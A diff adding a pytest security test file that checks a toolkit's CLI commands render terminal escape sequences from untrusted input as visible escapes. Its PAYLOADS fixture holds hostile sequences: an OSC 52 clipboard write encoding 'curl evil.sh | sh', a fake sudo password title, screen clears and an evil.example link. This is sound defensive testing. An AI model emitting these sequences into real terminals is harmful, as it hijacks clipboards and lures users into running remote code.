@@ -1,0 +1,259 @@
+"""The fourth security round (issue 56): what the toolkit prints, the secrets it holds and the numbers it reads.
+
+Each class of attack that succeeded has its tests here (docs/threat-model.md, "Fourth round", names them):
+
+1. text from outside the toolkit on a terminal (a library's skills and files, an endpoint's model id, a run folder's
+   names, an organised library's ``organization.json``): every command that prints such text, driven with terminal
+   escape sequences, prints no raw control character; and no module prints but through `skilltransfer.util.terminal`;
+2. secrets in messages: a key with a line break, URL credentials of an embedder endpoint, redaction by value;
+3. an endpoint's answer nested too deeply: retried like any malformed answer, one ``error:`` line, no record;
+4. a library's text in a prompt: contracts bounded, no heading or fence of its own;
+5. numbers in a run folder: out of range or not finite, one ``error:`` line naming the file, line and field in every
+   command that reads runs.
+"""
+
+from __future__ import annotations
+
+import ast
+import importlib.util
+import json
+import re
+import shutil
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from types import ModuleType
+
+import pytest
+from helpers_cli import main_cli
+
+import skilltransfer
+from skilltransfer.cli import main
+from skilltransfer.llm.mock_server import MockServer
+from skilltransfer.llm.roleplay import RolePlay
+
+PAYLOADS = {
+    "osc52-bel": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+    "osc52-st": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
+    "title-st": "\x1b]0;sudo password:\x1b\\",
+    "clear-screen": "\x1b[2J\x1b[H",
+    "c1-csi": "\x9b2J",
+    "c1-osc": "\x9d0;title\x9c",
+    "markup-link": "[link=https://evil.example]click[/link][blink]",
+}
+"""Terminal attacks: a clipboard write (OSC 52, ended by BEL and by ``ESC \\``), a title change, a screen clear, the
+same as C1 controls, and rich markup (a hyperlink)."""
+HOSTILE = "x" + "".join(PAYLOADS.values())
+RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+"""A control character a terminal acts on (all but tab and newline)."""
+REPO = Path(__file__).resolve().parent.parent
+
+
+def assert_no_raw_controls(*texts: str) -> None:
+    for text in texts:
+        found = RAW.search(text)
+        assert found is None, f"raw {found.group()!r} in {text[max(0, found.start() - 80):found.end() + 80]!r}"
+        assert "\x1b]8;" not in text
+
+
+def yaml_quoted(text: str) -> str:
+    """``text`` as a YAML double-quoted scalar (control characters as escapes)."""
+    return json.dumps(text)
+
+
+def hostile_library(folder: Path) -> Path:
+    """A SKILL.md library whose names, descriptions, contracts and file names carry `PAYLOADS`."""
+    for index, name in enumerate(["alpha", "beta"]):
+        skill = folder / f"{name}-skill"
+        (skill / "scripts").mkdir(parents=True)
+        (skill / "SKILL.md").write_text(
+            f"---\nname: {yaml_quoted(name + HOSTILE)}\ndescription: {yaml_quoted('Count to a number ' + HOSTILE)}\n"
+            f"metadata:\n  skilltransfer.inputs: {yaml_quoted('n: the target ' + HOSTILE)}\n---\n"
+            f"# Counting {index}\n\n1. Call apis.counter.add(n).\n2. {HOSTILE}\n")
+        (skill / "scripts" / f"run{PAYLOADS['title-st']}.py").write_text("print('x')\n")
+        (skill / "scripts" / "blob.bin").write_bytes(b"\x00\xff" * 10)
+    return folder
+
+
+def officebench_task(folder: Path) -> Path:
+    """An OfficeBench task folder (``1-99``) whose instruction carries `HOSTILE`."""
+    subtasks = folder / "1-99" / "subtasks"
+    subtasks.mkdir(parents=True)
+    (subtasks / "0.json").write_text(json.dumps({
+        "username": "Bob", "date": "2020-05-01", "weekday": "Friday", "time": "10:00 AM", "task": "Do it " + HOSTILE,
+        "evaluation": [{"function": "evaluate_contain", "args": {"doc_type": "ics", "file": "./calendar/Bob.ics",
+                                                                  "keywords": ["Meeting"]}}]}))
+    return folder
+
+
+# ------------------------------------------------------------------------------------------ 1. text on a terminal
+def _main(argv: list[str]) -> int:
+    """The console entry point on ``argv`` (its output left to pytest's capture); the exit code."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(sys, "argv", ["skilltransfer", *argv])
+        try:
+            main()
+        except SystemExit as exc:
+            return int(exc.code or 0)
+    return 0
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
+    """Everything a command may print text of, carrying `PAYLOADS`: a library (and its organised copy), an endpoint
+    whose one model id carries them, a run made with both, an OfficeBench task folder, task texts."""
+    root = tmp_path_factory.mktemp("hostile")
+    library = hostile_library(root / "lib")
+    officebench_task(root / "officebench")
+    (root / "tasks.jsonl").write_text("".join(json.dumps({"instruction": f"count to {n} {HOSTILE}"}) + "\n"
+                                              for n in (3, 5)))
+    with MockServer(RolePlay(), models=["m" + HOSTILE]) as server:
+        places = {"lib": str(library), "url": server.url, "root": str(root), "run": str(root / "run"),
+                  "org": str(root / "org"), "graph": str(root / "graph")}
+        for argv in (RUN, ["library", "organize", "{lib}", "--as", "flat", "--out", "{org}"],
+                     ["library", "decompose", "{lib}", "--out", "{graph}", "--model", "{url}", "--embedder", "hash:64"]):
+            assert _main([arg.format(**places) for arg in argv]) == 0, argv
+        yield places
+
+
+RUN = ["run", "--env", "apps", "--condition", "task+text", "--library", "{lib}", "--model", "{url}", "--embedder",
+       "hash:64", "--limit", "1", "--no-sandbox", "--no-progress", "--out", "{run}"]
+NAME = "alpha" + HOSTILE
+COMMANDS: dict[str, list[str]] = {
+    "run": [*RUN[:-1], "{tmp}/run"],  # the start line (the served model id) and the library: notes
+    "run-progress": [*RUN[:-2], "--progress", "--out", "{tmp}/run"],
+    "grid": ["grid", "{tmp}/grid.yaml", "--no-progress"],  # library notes at start-up
+    "show": ["show", "{run}"],
+    "show-task": ["show", "{run}", "--task", "1", "--prompts"],
+    "report": ["report", "{run}", "--out", "{tmp}/report"],
+    "report-compare": ["report", "--compare", "{run}", "{run}"],
+    "export": ["export", "{run}", "--out", "{tmp}/tasks.csv"],
+    "view-export": ["view", "{run}", "--export", "{tmp}/site"],
+    "judge": ["judge", "{run}", "{run}", "--model", "{url}", "--out", "{tmp}/judge.json"],
+    "score": ["score", "{lib}", "--tasks", "{root}/tasks.jsonl", "--embedder", "hash:64"],
+    "envs-show": ["envs", "show", "officebench:{root}/officebench"],
+    "library-show": ["library", "show", "{lib}"],
+    "library-show-skill": ["library", "show", "{lib}", "--skill", "1"],
+    "library-organize-flat": ["library", "organize", "{lib}", "--as", "flat", "--out", "{tmp}/org"],
+    "library-organize-tree": ["library", "organize", "{lib}", "--as", "tree", "--model", "{url}", "--out",
+                              "{tmp}/org"],
+    "library-show-organised": ["library", "show", "{org}"],
+    "library-show-node": ["library", "show", "{org}", "--node", NAME],
+    "library-export": ["library", "export", "{lib}", "--out", "{tmp}/exported"],
+    "library-decompose": ["library", "decompose", "{lib}", "--out", "{tmp}/graph", "--model", "{url}", "--embedder",
+                          "hash:64"],
+    "library-route": ["library", "route", "{graph}", "--query", "count to 3", "--model", "{url}", "--embedder",
+                      "hash:64"],
+    "library-route-json": ["library", "route", "{graph}", "--query", "count to 3", "--model", "{url}", "--embedder",
+                           "hash:64", "--json"],
+}
+"""Every command that prints text from outside the toolkit (``library prune --harmful``: its own test below)."""
+QUIET = {"report", "export", "view-export", "judge", "library-route-json"}
+"""Commands that print no text of the attacked inputs today (they are driven all the same)."""
+
+
+@pytest.mark.parametrize("name", list(COMMANDS))
+def test_no_command_prints_a_raw_control_sequence(name: str, hostile: dict[str, str], tmp_path: Path,
+                                                  monkeypatch: pytest.MonkeyPatch,
+                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    """Class 1: escape sequences in a library, an endpoint's model id, a run folder, an organised library's
+    ``organization.json`` or an OfficeBench task reach stdout and stderr of every command as visible escapes."""
+    (tmp_path / "grid.yaml").write_text(
+        f"name: g\nenvs: {{apps: {{env: apps, sandboxed: false}}}}\nconditions: [task+text]\nlibrary: {hostile['lib']}\nembedder: hash:64\n"
+        f"models: {{m: {{name: openai, base_url: {hostile['url']}, model: {json.dumps('m' + HOSTILE)}}}}}\n"
+        f"limits: {{task_limit: 1}}\nout: {tmp_path / 'grid'}\n")
+    argv = [arg.format(tmp=tmp_path, **hostile) for arg in COMMANDS[name]]
+    monkeypatch.setenv("COLUMNS", "150")
+    code, out, err = main_cli(argv, monkeypatch, capsys)
+    assert code == 0, err[-3000:]
+    assert_no_raw_controls(out, err)
+    if name not in QUIET:  # the attack is shown, as escapes
+        assert "\\x1b" in out + err, (out + err)[-3000:]
+
+
+def test_library_prune_harmful_prints_a_shared_runs_skill_names_safely(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                                      capsys: pytest.CaptureFixture[str]) -> None:
+    """Class 1: ``library prune --harmful RUNS`` printed the skill names a shared run's ``results.jsonl`` records
+    raw; now as escapes."""
+    world = _skill_effects_world()
+    runs = tmp_path / "runs"
+    world.run_replicate(runs, 0, groups=1, per_topic=160, mask_rate=0.5)
+    for path in [*runs.rglob("*.jsonl"), *runs.rglob("*.json")]:  # the run's records and memory
+        if path.name != "library0.jsonl":
+            path.write_text(path.read_text().replace('"alpha_two"', json.dumps("alpha_two" + HOSTILE)))
+    code, out, err = main_cli(["library", "prune", str(runs / "library0.jsonl"), "--harmful", str(runs), "--out",
+                               str(tmp_path / "pruned")], monkeypatch, capsys)
+    assert code == 0, err
+    assert "harmful: alpha_two" in out
+    assert "\\x1b]52;c;" in out
+    assert_no_raw_controls(out, err)
+
+
+def _skill_effects_world() -> ModuleType:
+    spec = importlib.util.spec_from_file_location("skill_effects_bench", REPO / "benchmarks" / "skill_effects.py")
+    assert spec is not None
+    assert spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    sys.modules[spec.name] = module
+    spec.loader.exec_module(module)
+    return module
+
+
+PRINTING_ALLOWED = {
+    "skilltransfer/util/terminal.py": "the one way to print",
+    "skilltransfer/sandbox/": "the agent's own output, captured into its observation",
+    "skilltransfer/envs/office/docs_example.py": "an example the agent's docs show (run in the sandbox)",
+}
+"""Modules that may print otherwise, and why."""
+WRITERS = {"print", "typer.echo", "typer.secho", "click.echo", "click.secho", "sys.stdout.write", "sys.stderr.write",
+           "rich.print", "pprint.pprint"}
+"""Calls that write to the terminal without `skilltransfer.util.terminal`."""
+DISPLAYS = {"Progress", "Live", "Status"}
+"""rich displays: they draw on the console they are given, else on rich's own (unsafe) one."""
+
+
+def _dotted(node: ast.AST) -> str:
+    if isinstance(node, ast.Name):
+        return node.id
+    if isinstance(node, ast.Attribute):
+        return f"{_dotted(node.value)}.{node.attr}"
+    return ""
+
+
+def test_every_printed_line_goes_through_the_terminal_module() -> None:
+    """Class 1, structurally: no module of the package prints (``print``, ``typer.echo``, ``sys.stdout.write``),
+    builds rich's own console or a rich display without a console, but `skilltransfer.util.terminal` (whose `echo`
+    and `Console` make every line safe) and the agent's own sandbox."""
+    package = Path(skilltransfer.__file__).resolve().parent
+    offenders = []
+    for path in sorted(package.rglob("*.py")):
+        relative = path.relative_to(package.parent).as_posix()
+        if any(relative == allowed or (allowed.endswith("/") and relative.startswith(allowed))
+               for allowed in PRINTING_ALLOWED):
+            continue
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            where = f"{relative}:{getattr(node, 'lineno', '?')}"
+            if isinstance(node, ast.Call):
+                name = _dotted(node.func)
+                if name in WRITERS:
+                    offenders.append(f"{where}: {name}(...)")
+                if name.split(".")[-1] in DISPLAYS and not any(k.arg == "console" for k in node.keywords):
+                    offenders.append(f"{where}: {name}(...) without console=")
+            elif isinstance(node, ast.ImportFrom) and node.module in ("rich.console", "rich"):
+                unsafe = {"Console", "get_console", "print"} & {alias.name for alias in node.names}
+                offenders += [f"{where}: from {node.module} import {name}" for name in sorted(unsafe)]
+    assert not offenders, "print through skilltransfer.util.terminal (echo, Console):\n" + "\n".join(offenders)
+
+
+def test_shown_makes_every_terminal_control_visible() -> None:
+    """The one conversion covers C0 (but tab and newline), DEL, C1 (CSI ``\\x9b``, OSC ``\\x9d``, ST ``\\x9c``),
+    ``ESC \\`` endings and bidirectional overrides; it is idempotent and leaves other text alone."""
+    from skilltransfer.util.terminal import shown
+
+    every = "".join(chr(c) for c in [*range(0x20), 0x7f, *range(0x80, 0xa0), 0x202e, 0x2066])
+    out = shown(every + HOSTILE)
+    assert_no_raw_controls(out)
+    assert "\u202e" not in out and "\\u202e" in out
+    assert "\t" in out and "\n" in out
+    assert shown(out) == out
+    assert shown("naïve café — 東京 [bold]") == "naïve café — 東京 [bold]"
